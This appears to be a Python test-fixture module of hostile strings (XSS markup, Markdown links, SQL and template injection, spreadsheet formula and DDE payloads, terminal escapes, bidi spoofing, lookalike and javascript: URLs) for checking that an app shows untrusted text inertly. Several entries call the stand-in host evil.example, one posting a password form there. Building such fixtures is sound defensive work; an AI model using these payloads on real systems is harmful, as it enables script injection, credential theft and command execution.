"""Hostile texts: what strangers may put into a post, a title, an author's name or an address.

Every path that shows text must show these as text: nothing runs, loads, links, reorders the page or breaks it.
``MARKER`` in a payload is a host that nobody may ever ask.
"""

from __future__ import annotations

MARKER = "evil.example"

MARKUP = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src='https://{MARKER}/pixel.png'>",
    f"<svg/onload=window.pwned=1><image href='https://{MARKER}/a.svg'/></svg>",
    f"<iframe src='https://{MARKER}/'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<link rel=stylesheet href='https://{MARKER}/a.css'>",
    f"<style>@import url(https://{MARKER}/b.css); body{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url=https://{MARKER}/'>",
    f"<base href='https://{MARKER}/'>",
    f"<form action='https://{MARKER}/'><input name=password></form>",
    "<a href='javascript:window.pwned=1'>click</a>",
    f"<video src='https://{MARKER}/v.mp4' autoplay></video>",
    f"<object data='https://{MARKER}/o.swf'></object>",
    "<math><mtext></table><img src=x onerror=window.pwned=1>",
    "</div></div></section></main><h1>owned</h1>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "\"'><script>window.pwned=1</script>",
    '" onmouseover="window.pwned=1" x="',
    "' autofocus onfocus='window.pwned=1",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<ScRiPt\x0b>window.pwned=1</sCrIpT>",
    "＜script＞window.pwned=1＜/script＞",
    "<div style='position:fixed;inset:0;background:red;z-index:99999'>cover</div>",
    "<details open ontoggle=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
]
MARKDOWN = [
    f"![pixel](https://{MARKER}/m.png)",
    f"[![x](https://{MARKER}/n.png)](https://{MARKER}/)",
    "[click](javascript:window.pwned=1)",
    f"[ref]: https://{MARKER}/\n[ref]",
    f"<https://{MARKER}/auto>",
    "# heading\n## heading\n---\n> quote",
    "```html\n<script>window.pwned=1</script>\n```",
    "$\\href{javascript:window.pwned=1}{x}$ $$\\frac{1}{0}$$",
    ":red[red] :material/delete: :streamlit: :rainbow[x]",
    "| a | b |\n|---|---|\n| **c** | _d_ |",
    "~~**__all__**~~ `code`",
]
TEMPLATES = [
    "{{ 7*7 }} {% for x in [1] %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0} {name} {__class__} %s %(x)s",
    "'; drop table triage; --",
    "' or 1=1 --",
    "$claim_id ?1 :name",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1＋1",
    "\t=1+1",
    "\r=1+1",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "nul\x00byte",
    "bell\x07 backspace\x08\x08 delete\x7f",
    "line\r\nline\rline\u2028line\u2029line\x85line",
    "\ud800 lone high",
    "lone low \udfff",
    "\udc00\ud800 swapped",
    "\ufffe\uffff noncharacters \U0010ffff",
]
INVISIBLE = [
    "不\u200b实\u200b消\u200b息",
    "safe \u202egnp.exe",
    "\u2067\u2066\u202e nested \u2069",
    "\u202e" * 500 + "overrides without end",
    "soft\u00adhy\u00adphen \ufeffbom \u2060joiner",
    "\u200f\u200eعربي עברית mixed \u200f",
    "مرحبا هذا نص من اليمين إلى اليسار 123",
]
SHAPES = [
    "Z̴̢̛̺" + "̸̶̷̢̧̨" * 200 + "algo",
    "👨‍👩‍👧‍👦🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿🇹🇼🇭🇰🇨🇳🇺🇸",
    "🇦" * 300,
    "W" * 5_000,
    "啊" * 5_000,
    "\n" * 3_000 + "far below",
    " " * 3_000,
    "",
    "𠮷野家 𡃁仔 㗎 囍 ﷽",
    "x" * 10_000_000,
]
ADDRESSES = [
    "javascript:window.pwned=1",
    " java\tscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://good.example@evil.example/",
    "https://еxаmple.com/",
    'https://example.com/"onmouseover=window.pwned=1',
    "https://[::1",
    "http://example.com/\u202egnp",
    "https://" + "a" * 5_000 + ".example/",
]

TEXTS = [*MARKUP, *MARKDOWN, *TEMPLATES, *FORMULAS, *CONTROLS, *INVISIBLE, *SHAPES]
"""Payloads for every place that shows a text."""


def storable(text: str) -> str:
    """As the raw layer can hold it: Arrow strings are UTF-8, which has no lone surrogates."""
    return text.encode("utf-8", "replace").decode("utf-8")
